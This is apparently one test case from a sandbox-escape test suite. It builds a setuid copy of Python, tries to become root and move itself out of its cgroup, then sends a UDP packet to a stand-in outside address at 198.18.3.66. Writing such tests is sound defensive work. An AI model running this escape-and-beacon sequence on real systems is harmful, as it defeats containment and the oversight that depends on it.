# shellcheck shell=bash disable=SC2034,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
title='A setuid program that leaves the cgroup'
origin='RESEARCH §2.74'
reason='not_resolved'
forms=run
prepare() { cp -L "$PYTHON" "$T/python-suid" && chmod 4755 "$T/python-suid"; }
attack() {
    client "$T/python-suid" -c '
import os, socket, sys
try:
    os.setresuid(0, 0, 0)
    open(sys.argv[1] + "/cgroup.procs", "w").write(str(os.getpid()))
except OSError as error: print(error)
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(sys.argv[2].encode(), ("198.18.3.66", 9999))' "$CGROUPS" "$1"
}
